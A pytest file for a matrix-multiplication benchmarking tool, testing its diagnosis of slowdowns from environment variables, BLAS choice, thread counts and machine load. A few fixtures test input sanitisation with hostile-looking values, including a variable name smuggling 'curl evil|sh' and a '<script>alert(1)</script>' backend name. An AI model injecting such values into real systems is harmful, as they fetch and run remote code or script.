"""Every cause: suspected where it is at work, silent where it is not, confirmed and refuted by its experiment."""

from __future__ import annotations

from types import SimpleNamespace

import msgspec
import pytest

from gemmscope.analysis import diagnosis
from gemmscope.analysis.diagnosis import causes
from gemmscope.analysis.diagnosis.judging import is_settled
from gemmscope.analysis.diagnosis.suspicion import investigated
from gemmscope.analysis.view import View
from gemmscope.records.evidence import (
    InstructionProfile,
    LibraryThreads,
    SampledInstructions,
    Surroundings,
    Throttling,
)
from gemmscope.workload.shapes import Shape
from tests.builders import (
    make_backend,
    make_ceilings,
    make_cell,
    make_machine,
    make_part,
    make_result,
    make_sampled_cell,
    make_settings,
    make_worker,
)

AVX512 = ["avx", "avx2", "avx512bw", "avx512dq", "avx512f", "avx512vl", "fma", "sse", "sse4_2"]
OPENBLAS = LibraryThreads(
    image="/v/site-packages/numpy.libs/libscipy_openblas64_-1.so", kind="OpenBLAS", threads=2, core="SkylakeX"
)
MKL = LibraryThreads(image="/v/site-packages/torch/lib/libtorch_cpu.so", kind="MKL", threads=2)
OPENMP = LibraryThreads(image="/v/site-packages/torch/lib/libgomp.so.1", kind="OpenMP", threads=2)
REFERENCE = LibraryThreads(image="/v/site-packages/mlx_cpu.libs/libblas-1.so", kind="reference BLAS", threads=1)

FAST, SLOW = (1.0, 1.01, 0.99), (2.0, 2.02, 1.98)
SAME = (2.01, 2.0, 2.0)
LIBRARIES = {"numpy": [OPENBLAS], "torch": [OPENBLAS, MKL, OPENMP], "mlx": [OPENBLAS, REFERENCE]}


def run(
    backend="numpy-cpu", seconds=SLOW, size=1024, *, variants=(), machine=(), worker=(), cell=(), settings=(), **more
):
    """A run of one backend on a machine with two processors, and what its experiments took: a dict by variant."""
    library = backend.partition("-")[0]
    cells = [sampled_cell(backend, seconds, size, **{"gflops": 100.0} | dict(cell))]
    backends = [make_backend(backend, worker=library)]
    for name, took in dict(variants).items():
        cells.append(sampled_cell(name, took, size))
        backends.append(make_backend(name, experiment=True, worker=name))
    facts = {"variables": {}, "libraries": LIBRARIES.get(library, []), "environment": {}, "backends": {}}
    fields = {
        "machine": make_machine(**{
            "logical_cpus": 2, "usable_cpus": 2.0, "vendor": "GenuineIntel", "cpu_flags": AVX512, **dict(machine)
        }),
        "workers": [make_worker(library, **facts | dict(worker))],
        "settings": make_settings(f"{size}x{size}x{size}", **dict(settings)),
        "ceilings": make_ceilings(),
    }  # fmt: skip
    return make_result(cells, backends=backends, **fields | more)


def sampled_cell(backend, milliseconds, size, **changes):
    """A cell with samples that keep two threads busy."""
    cell = make_sampled_cell(backend, [1e-3 * each for each in milliseconds], size, precision="float32")
    return msgspec.structs.replace(cell, **{"threads": 2.0} | changes)


def diagnoses(result, cause=None):
    found = diagnosis.derive(View(result, experiments=True))
    return [one for one in found if cause in (None, one.id)]


def the(result, cause):
    (found,) = diagnoses(result, cause)
    return found


def sampled(backend, size=1024, **profile):
    return [SampledInstructions(backend=backend, m=size, n=size, k=size, profile=InstructionProfile(**profile))]


def test_a_healthy_backend_is_suspected_of_nothing():
    assert diagnoses(run(seconds=FAST, cell={"gflops": 200.0})) == []


def test_every_cause_is_found_by_being_there():
    names = causes.known()
    assert {"environment_variables", "mkl_on_amd", "reference_blas", "thread_count", "busy_machine"} <= set(names)


def test_a_module_without_suspects_is_a_mistake(monkeypatch):
    monkeypatch.setattr(causes.importlib, "import_module", lambda name: SimpleNamespace())
    with pytest.raises(TypeError, match="has no function called suspects"):
        causes.known.__wrapped__()


OLD = LibraryThreads(image=OPENBLAS.image, kind="OpenBLAS", threads=2, core="Haswell")
HASWELL = {"worker": {"variables": {"OPENBLAS_CORETYPE": "Haswell"}, "libraries": [OLD]}}


class TestEnvironmentVariables:
    def test_one_that_slows_is_confirmed_with_a_line_to_paste(self):
        found = the(run(variants={"numpy-cpu:OPENBLAS_CORETYPE=": FAST}, **HASWELL), "environment-variable")
        assert (found.verdict, found.matters, found.remedy) == ("confirmed", True, "unset OPENBLAS_CORETYPE")
        assert found.gain.estimate == pytest.approx(2, rel=0.02)
        assert (
            "OPENBLAS_CORETYPE=Haswell is set, so OpenBLAS uses AVX2 kernels (Haswell) on a CPU with AVX-512"
            in found.text
        )
        assert "runs at 50 % of the speed it could reach at 1024" in found.text

    def test_one_that_does_not_is_refuted(self):
        found = the(run(variants={"numpy-cpu:OPENBLAS_CORETYPE=": SAME}, **HASWELL), "environment-variable")
        assert (found.verdict, found.matters, found.remedy) == ("refuted", False, "")
        assert found.text.endswith("; this is not the cause.")

    def test_one_that_nobody_tried_is_untested(self):
        found = the(run(**HASWELL), "environment-variable")
        assert (found.verdict, found.matters) == ("untested", False)
        assert "no time left" in found.reason

    def test_an_interval_too_wide_says_so(self):
        found = the(run(variants={"numpy-cpu:OPENBLAS_CORETYPE=": (0.5, 4.0, 2.0)}, **HASWELL), "environment-variable")
        assert found.verdict == "untested"
        assert "too wide" in found.reason
        assert " times as fast; the interval is too wide to tell" in found.text
        assert "[" not in found.text, "that it is too noisy is said once"

    def test_what_other_libraries_read_is_not_suspected(self):
        variables = {"MKL_NUM_THREADS": "1", "CUDA_LAUNCH_BLOCKING": "1", "HOME": "/root", "OPENBLAS_VERBOSE": "2"}
        assert diagnoses(run(worker={"variables": variables}), "environment-variable") == []

    def test_openblas_is_loaded_beside_torch_and_not_called(self):
        variables = {"OPENBLAS_NUM_THREADS": "1", "OMP_NUM_THREADS": "1"}
        found = diagnoses(run("torch-cpu", worker={"variables": variables}), "environment-variable")
        assert [one.subject for one in found] == ["OMP_NUM_THREADS"]

    def test_threads_that_the_run_asked_for_are_meant(self):
        worker = {"variables": {"OMP_NUM_THREADS": "1"}, "environment": {"OMP_NUM_THREADS": "1"}}
        assert diagnoses(run(worker=worker, settings={"threads": 1}), "environment-variable") == []

    def test_two_that_hide_each_other_are_found_together(self):
        worker = {"variables": {"OMP_NUM_THREADS": "1", "OPENBLAS_NUM_THREADS": "1"}}
        tried = {
            "numpy-cpu:OMP_NUM_THREADS=": SAME,
            "numpy-cpu:OPENBLAS_NUM_THREADS=": SAME,
            "numpy-cpu:OMP_NUM_THREADS=+OPENBLAS_NUM_THREADS=": FAST,
        }
        first, *others = diagnoses(run(worker=worker, variants=tried), "environment-variable")
        assert (first.subject, first.verdict) == ("OMP_NUM_THREADS OPENBLAS_NUM_THREADS", "confirmed")
        assert first.remedy == "unset OMP_NUM_THREADS OPENBLAS_NUM_THREADS"
        assert {one.verdict for one in others} == {"refuted"}

    def test_one_that_explains_all_stands_alone(self):
        worker = {"variables": {"OPENBLAS_CORETYPE": "Haswell", "OPENBLAS_L2_SIZE": "512"}}
        tried = {
            "numpy-cpu:OPENBLAS_CORETYPE=": FAST,
            "numpy-cpu:OPENBLAS_L2_SIZE=": SAME,
            "numpy-cpu:OPENBLAS_CORETYPE=+OPENBLAS_L2_SIZE=": FAST,
        }
        found = diagnoses(run(worker=worker, variants=tried), "environment-variable")
        assert [(one.subject, one.verdict) for one in found] == [
            ("OPENBLAS_CORETYPE", "confirmed"), ("OPENBLAS_L2_SIZE", "refuted")
        ]  # fmt: skip

    def test_rubbish_in_a_variable_is_shown_as_one_line(self):
        worker = {"variables": {"OPENBLAS_NUM_THREADS": "1\x1b[31m\n<script>"}}
        found = the(run(worker=worker, variants={"numpy-cpu:OPENBLAS_NUM_THREADS=": FAST}), "environment-variable")
        assert "\x1b" not in found.text
        assert "\n" not in found.text

    def test_tf32_that_is_forced_is_told_by_the_error_and_not_by_the_time(self):
        worker = {"variables": {"NVIDIA_TF32_OVERRIDE": "1"}, "libraries": []}
        result = run("torch-gpu", FAST, worker=worker, cell={"precision": "tf32", "relative_error": 2.9e-4},
                     variants={"torch-gpu:NVIDIA_TF32_OVERRIDE=": SLOW})  # fmt: skip
        found = the(result, "environment-variable")
        assert (found.verdict, found.remedy) == ("confirmed", "unset NVIDIA_TF32_OVERRIDE")
        assert "computes with reduced precision" in found.text


class TestOtherBlas:
    def test_a_reference_blas(self):
        found = the(run("mlx-cpu", variants={"mlx-cpu:blas=openblas": FAST}), "reference-blas")
        assert (found.verdict, found.matters) == ("confirmed", True)
        assert found.remedy == "LD_PRELOAD=$(gemmscope blas-shim) python your_program.py"

    def test_it_matters_even_where_nobody_tried(self):
        found = the(run("mlx-cpu"), "reference-blas")
        assert (found.verdict, found.matters) == ("untested", True)

    def test_where_no_other_blas_can_be_put_under_it(self):
        found = the(run("mlx-cpu", machine={"system": "macOS 15.5"}), "reference-blas")
        assert found.verdict == "not testable"
        assert "for Linux" in found.reason

    @pytest.mark.parametrize("backend", ["scipy-blas", "numpy-cpu", "torch-cpu", "mlx-cpu"])
    def test_openblas_is_tried_under_every_framework_that_can_have_it(self, backend):
        found = the(run(backend, worker={"libraries": [REFERENCE]}), "reference-blas")
        assert [one.variant for one in found.experiments] == [f"{backend}:blas=openblas"]

    def test_no_other_blas_is_tried_under_what_calls_none(self):
        found = the(run("jax-cpu", worker={"libraries": [REFERENCE]}), "reference-blas")
        assert (found.verdict, found.reason) == ("not testable", "gemmscope cannot put another BLAS under jax")

    def test_mkl_on_amd(self):
        seen = sampled("torch-cpu", samples=100, width="256-bit", fused=True, instruction="vfmadd231ps ymm",
                       symbols=["mkl_blas_def_sgemm_kernel_0_zen"])  # fmt: skip
        result = run("torch-cpu", machine={"vendor": "AuthenticAMD"}, instructions=seen,
                     variants={"torch-cpu:blas=openblas": FAST})  # fmt: skip
        found = the(result, "mkl-on-amd")
        assert found.verdict == "confirmed"
        assert "code path def, 256-bit FMAs (vfmadd231ps ymm), on a CPU with AVX-512" in found.text

    @pytest.mark.parametrize(("gflops", "told"), [(100.0, True), (195.0, False)])
    def test_mkl_on_amd_that_is_slow_is_told_where_it_could_not_be_tried(self, gflops, told):
        seen = sampled("torch-cpu", samples=100, width="256-bit", symbols=["mkl_blas_def_sgemm_kernel_0_zen"])
        found = the(run("torch-cpu", machine={"vendor": "AuthenticAMD"}, instructions=seen,
                        cell={"gflops": gflops}), "mkl-on-amd")  # fmt: skip
        assert (found.verdict, found.matters) == ("untested", told)

    def test_mkl_on_intel_is_not_suspected(self):
        assert diagnoses(run("torch-cpu"), "mkl-on-amd") == []

    def test_mkl_on_amd_that_another_blas_does_not_beat(self):
        result = run("torch-cpu", machine={"vendor": "AuthenticAMD"}, variants={"torch-cpu:blas=openblas": SAME})
        assert the(result, "mkl-on-amd").verdict == "refuted"

    def test_kernels_that_are_older_than_the_processor(self):
        old = LibraryThreads(image=OPENBLAS.image, kind="OpenBLAS", threads=2, core="Haswell")
        tried = {"numpy-cpu:OPENBLAS_CORETYPE=SkylakeX": FAST, "numpy-cpu:blas=openblas": (1.5, 1.5, 1.5)}
        found = the(run(worker={"libraries": [old]}, variants=tried), "old-kernels")
        assert (found.verdict, found.remedy) == ("confirmed", "export OPENBLAS_CORETYPE=SkylakeX")
        assert [one.variant for one in found.experiments] == list(tried)

    def test_the_vectors_that_were_seen_count_where_a_blas_says_nothing(self):
        silent = LibraryThreads(image=OPENBLAS.image, kind="BLIS", threads=2)
        seen = sampled("numpy-cpu", samples=100, width="128-bit", width_share=1.0, fused=True, instruction="vfmadd xmm")
        found = the(run(worker={"libraries": [silent]}, instructions=seen), "old-kernels")
        assert "128-bit vectors on a CPU with AVX-512" in found.text


class TestThreads:
    def test_a_quota_below_the_pool(self):
        stopped = Throttling(affinity=2, quota=1.0, periods=100, throttled=60, throttled_seconds=3.0)
        around = [Surroundings(set=0, seconds=10.0, processors=2, other_seconds=0.1, throttling=stopped)]
        result = run(machine={"usable_cpus": 1.0}, surroundings=around, variants={"numpy-cpu:threads=1": FAST})
        found = the(result, "cpu-quota")
        assert (found.verdict, found.remedy.startswith("export OMP_NUM_THREADS=1")) == ("confirmed", True)
        assert "stopped in 60 % of the periods" in found.text

    def test_more_threads_than_processors(self):
        result = run(machine={"usable_cpus": 1.0}, variants={"numpy-cpu:threads=1": FAST})
        assert the(result, "too-many-threads").verdict == "confirmed"
        assert diagnoses(run(), "too-many-threads") == []

    def test_fewer_threads_than_processors(self):
        few = LibraryThreads(image=OPENBLAS.image, kind="OpenBLAS", threads=1, core="SkylakeX")
        result = run(worker={"libraries": [few]}, variants={"numpy-cpu:threads=2": FAST})
        assert the(result, "too-few-threads").verdict == "confirmed"

    def test_a_variable_that_caps_them_is_the_cause_itself(self):
        few = LibraryThreads(image=OPENBLAS.image, kind="OpenBLAS", threads=1, core="SkylakeX")
        result = run(worker={"libraries": [few], "variables": {"OPENBLAS_NUM_THREADS": "1"}})
        assert diagnoses(result, "environment-variable")
        assert diagnoses(result, "too-few-threads") == []

    @pytest.mark.parametrize(("took", "verdict"), [(FAST, "confirmed"), (SAME, "refuted")])
    def test_threads_on_too_little_work(self, took, verdict):
        found = the(run(size=64, variants={"numpy-cpu:threads=1": took}), "threads-hurt")
        assert found.verdict == verdict

    def test_the_size_from_which_threads_help_is_said(self):
        small = run(size=64, variants={"numpy-cpu:threads=1": FAST})
        large = run(size=1024, variants={"numpy-cpu:threads=1": (4.0, 4.0, 4.1)})
        result = make_result([*small.cells, *large.cells], backends=small.backends, workers=small.workers,
                             machine=small.machine)  # fmt: skip
        first, second = diagnoses(result, "threads-hurt")
        assert (first.verdict, second.verdict) == ("confirmed", "refuted")
        assert "; from 1024 on they help" in first.text
        assert "they help" not in second.text, "not of the size itself"

    def test_one_thread_at_work_hurts_nobody(self):
        assert diagnoses(run(size=64, cell={"threads": 1.0}), "threads-hurt") == []


class TestOperands:
    @pytest.mark.parametrize(
        ("option", "cause"),
        [
            ("strided", "non-contiguous"), ("subnormal", "subnormal"), ("self", "other-routine"),
            ("beside=torch", "two-thread-pools"), ("transposed=ab", "transposed"), ("cold", "cold-operands"),
            ("pitch=2048", "leading-dimension"), ("threads=1", "too-few-threads"),
        ],
    )  # fmt: skip
    def test_what_a_variant_asks_for_is_tried_without_it(self, option, cause):
        found = the(run(f"numpy-cpu:{option}", variants={"numpy-cpu": FAST}), cause)
        assert found.verdict == "confirmed"
        assert found.experiments[0].variant == "numpy-cpu"
        assert the(run(f"numpy-cpu:{option}", variants={"numpy-cpu": SAME}), cause).verdict == "refuted"

    def test_rows_a_multiple_of_a_page_apart(self):
        found = the(run(variants={"numpy-cpu:pitch=1040": FAST}), "leading-dimension")
        assert found.verdict == "confirmed"
        assert "4096 bytes apart" in found.text
        assert diagnoses(run(size=1000), "leading-dimension") == []

    def test_a_dip_between_neighbours(self):
        result = run()
        rates = {768: 200.0, 1024: 150.0, 1280: 200.0}
        around = [sampled_cell("numpy-cpu", SLOW, size, gflops=rate) for size, rate in rates.items()]
        quick = make_result(around, backends=result.backends, workers=result.workers, machine=result.machine)
        assert [one.shape for one in diagnoses(quick, "leading-dimension")] == ["1024x1024x1024"]

    def test_an_output_for_every_call(self):
        parts = [make_part("numpy-cpu", "allocation", 0.5e-3, 1024)]
        result = run(parts=parts, variants={"numpy-cpu:out": FAST})
        found = the(result, "allocation")
        assert (found.verdict, found.remedy) == ("confirmed", "np.matmul(a, b, out=c)")
        assert diagnoses(run(parts=[make_part("numpy-cpu", "allocation", 1e-6, 1024)]), "allocation") == []

    def allocating(self, faults, backend="numpy-cpu", variants=(), out_faults=0.0):
        """A run whose call spends a quarter of its time on a new output, with so many page faults."""
        part = make_part(backend, "allocation", 0.5e-3, 1024, minuend=backend, subtrahend="numpy-cpu:out")
        out = sampled_cell("numpy-cpu:out", FAST, 1024, page_faults=out_faults)
        result = run(backend, parts=[part], cell={"page_faults": faults}, variants=variants)
        return msgspec.structs.replace(result, cells=[*(c for c in result.cells if c.key != out.key), out])

    def test_an_output_that_page_faults_is_tried_in_a_warmed_heap_too(self):
        variants = {"numpy-cpu:out": FAST, "numpy-cpu:heap=warm": (0.9, 0.91, 0.89)}
        found = the(self.allocating(1025.3, variants=variants), "allocation")
        assert [one.variant for one in found.experiments] == ["numpy-cpu:out", "numpy-cpu:heap=warm"]
        assert "a new output in a fresh heap, which takes 500 µs and 1025 page faults" in found.text
        assert (found.verdict, found.evidence["page faults"]) == ("confirmed", 1025.3)
        assert found.remedy.startswith("np.empty(8_000_000, np.float32)")

    @pytest.mark.parametrize(
        ("backend", "faults", "out_faults"),
        [("numpy-cpu", 0.2, 0.0), ("numpy-cpu", None, None), ("numpy-cpu", 30.0, 30.0), ("numpy-cpu:heap=warm", 2, 0)],
    )
    def test_a_warmed_heap_is_tried_only_where_it_can_change_something(self, backend, faults, out_faults):
        found = the(self.allocating(faults, backend, {"numpy-cpu:out": FAST}, out_faults), "allocation")
        assert not any(one.variant == "numpy-cpu:heap=warm" for one in found.experiments)
        assert len(found.experiments) == 1

    def test_a_matrix_vector_product_is_bound_by_memory(self):
        cell = make_cell("numpy-cpu", 1e-3, m=1, n=4096, k=4096)
        result = make_result([cell], ceilings=make_ceilings(), workers=run().workers, machine=run().machine)
        found = the(result, "matrix-vector")
        assert (found.verdict, found.shape) == ("not testable", str(Shape(1, 4096, 4096)))


class TestMachine:
    def around(self, other, stolen=0.0):
        return [Surroundings(set=0, seconds=10.0, processors=2, other_seconds=other, stolen_seconds=stolen,
                             others={"cc1plus": other})]  # fmt: skip

    def test_other_programs_come_first(self):
        worker = {"variables": {"OPENBLAS_CORETYPE": "Haswell"}}
        result = run(worker=worker, variants={"numpy-cpu:OPENBLAS_CORETYPE=": FAST}, surroundings=self.around(10.0))
        first, second, *_ = diagnoses(result)
        assert (first.id, first.verdict, first.matters) == ("busy-machine", "not testable", True)
        assert "50 % of the processors' time, most of all cc1plus" in first.text
        assert second.id == "environment-variable"

    def test_services_are_no_neighbours(self):
        assert diagnoses(run(surroundings=self.around(1.0)), "busy-machine") == []

    def test_a_hypervisor_that_gives_the_time_to_others(self):
        found = the(run(surroundings=self.around(0.0, 8.0)), "busy-machine")
        assert "other virtual machines took 40 %" in found.text.lower()

    def test_rosetta(self):
        found = the(run(machine={"translated": True, "system": "macOS 15.5"}), "rosetta")
        assert (found.matters, "arm64" in found.remedy) == (True, True)

    def test_an_old_wheel(self):
        worker = {"provenance": {"numpy wheel": ["cp311-cp311-macosx_11_0_arm64"]}}
        mac = {"system": "macOS 15.5", "architecture": "arm64", "cpu_flags": [], "vendor": "Apple"}
        assert the(run(worker=worker, machine=mac), "old-wheel").matters
        assert diagnoses(run(worker=worker, machine=mac | {"system": "macOS 13.1"}), "old-wheel") == []

    def test_efficiency_cores_and_low_power(self):
        result = run(cell={"efficiency_share": 0.9}, machine={"low_power_mode": True, "thermal_state": "serious"})
        found = {one.id for one in diagnoses(result) if one.matters}
        assert {"low-power", "hot"} <= found


def test_remedies_are_measured_together():
    capped = [OPENBLAS, msgspec.structs.replace(MKL, threads=1), OPENMP]
    worker = {"variables": {"OMP_NUM_THREADS": "1"}, "libraries": capped}
    tried = {
        "torch-cpu:OMP_NUM_THREADS=": (1.5, 1.5, 1.51),
        # Nothing but the BLAS changes: it has the one thread that PyTorch has.
        "torch-cpu:blas=openblas+OPENBLAS_NUM_THREADS=1": (1.2, 1.2, 1.21),
        "torch-cpu:blas=openblas+OMP_NUM_THREADS=": (0.8, 0.8, 0.81),
    }
    result = run("torch-cpu", worker=worker, machine={"vendor": "AuthenticAMD"}, variants=tried)
    found = the(result, "combined")
    assert found.verdict == "confirmed"
    assert found.gain.estimate == pytest.approx(2.5, rel=0.02)
    assert "unset OMP_NUM_THREADS" in found.remedy
    assert "OPENBLAS_NUM_THREADS" not in found.remedy
    assert the(result, "mkl-on-amd").remedy.startswith("OPENBLAS_NUM_THREADS=1 LD_PRELOAD=")
    assert diagnoses(result)[0].id == "combined"


def test_remedies_of_operands_and_environment_come_together():
    tried = {"numpy-cpu": (1.5, 1.5, 1.51), "numpy-cpu:strided+OPENBLAS_CORETYPE=": (1.2, 1.2, 1.21),
             "numpy-cpu:OPENBLAS_CORETYPE=": (0.8, 0.8, 0.81)}  # fmt: skip
    result = run("numpy-cpu:strided", variants=tried, **HASWELL)
    assert the(result, "combined").experiments[0].variant == "numpy-cpu:OPENBLAS_CORETYPE="


def test_threads_that_are_bound_leave_no_fair_comparison_with_another_blas():
    worker = {"variables": {"GOMP_CPU_AFFINITY": "0"}}
    found = the(run("torch-cpu", worker=worker, machine={"vendor": "AuthenticAMD"}), "mkl-on-amd")
    assert found.verdict == "not testable"
    assert "GOMP_CPU_AFFINITY binds its threads" in found.reason


def test_two_sets_that_agree_settle_nothing_yet():
    worker = {"variables": {"OPENBLAS_CORETYPE": "Haswell"}}
    result = run(seconds=(2.0, 2.0), variants={"numpy-cpu:OPENBLAS_CORETYPE=": (1.0, 1.0)}, worker=worker)
    (one,) = [each for tried in investigated(View(result, experiments=True))[1].values() for each in tried
              if each.trial.variant == "numpy-cpu:OPENBLAS_CORETYPE="]  # fmt: skip
    assert one.is_confirmed
    assert not is_settled(one, 0.025)


def test_a_refuted_cause_is_settled_however_wide_its_interval():
    worker = {"variables": {"OPENBLAS_CORETYPE": "Haswell"}}
    result = run(variants={"numpy-cpu:OPENBLAS_CORETYPE=": (4.0, 4.4, 3.6)}, worker=worker)
    measured = investigated(View(result, experiments=True))[1]
    assert any(is_settled(each, 0.025) for tried in measured.values() for each in tried)


def test_a_name_that_no_shell_could_set_is_no_variable():
    assert diagnoses(run(worker={"variables": {"OPENBLAS_X;curl evil|sh": "1"}}), "environment-variable") == []


def test_a_second_variable_does_not_make_results_more_exact():
    worker = {"variables": {"NVIDIA_TF32_OVERRIDE": "1", "CUDA_LAUNCH_BLOCKING": "1"}, "libraries": []}
    tried = {"torch-gpu:CUDA_LAUNCH_BLOCKING=": (0.5, 0.5, 0.51), "torch-gpu:NVIDIA_TF32_OVERRIDE=": SLOW}
    result = run("torch-gpu", FAST, worker=worker, variants=tried, cell={"precision": "tf32"})
    told = {one.subject: one.text for one in diagnoses(result, "environment-variable") if one.verdict == "confirmed"}
    assert "reduced precision" in told["NVIDIA_TF32_OVERRIDE"]
    assert "reduced precision" not in told["CUDA_LAUNCH_BLOCKING"]


def test_reduced_precision_that_nothing_explains():
    found = the(run("mlx-gpu", cell={"precision": "tf32", "relative_error": 2.9e-4}), "reduced-precision")
    assert (found.verdict, found.matters) == ("not testable", True)


def test_a_gpu_that_waits_for_its_launches():
    result = run("torch-gpu", size=64)
    quick = make_sampled_cell("torch-gpu", [0.2e-3] * 3, 64, mode="device")
    together = make_sampled_cell("torch-gpu", [0.5e-3] * 3, 64, mode="throughput")
    result = make_result([*result.cells, quick, together], backends=result.backends, workers=result.workers)
    found = the(result, "launch-bound")
    assert found.verdict == "confirmed"
    assert found.experiments[0].mode == "throughput"


def test_a_file_from_elsewhere_may_hold_anything():
    result = run(worker={"variables": {"OPENBLAS_CORETYPE": "Haswell"}})
    odd = make_backend("<script>alert(1)</script>|x", experiment=True)
    assert diagnoses(make_result(result.cells, backends=[*result.backends, odd], workers=result.workers))
